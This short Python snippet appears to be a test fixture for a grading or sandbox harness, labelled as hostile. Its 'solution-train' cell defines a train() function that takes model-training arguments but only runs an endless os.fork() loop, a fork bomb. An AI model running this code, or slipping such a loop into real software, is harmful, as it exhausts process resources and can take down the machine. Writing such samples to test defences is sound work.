# Hostile: the training loop starts a fork bomb before doing any work.
# %% solution-train
import os


def train(X, y, layer_sizes, lr, epochs, batch_size, seed):
    while True:
        os.fork()
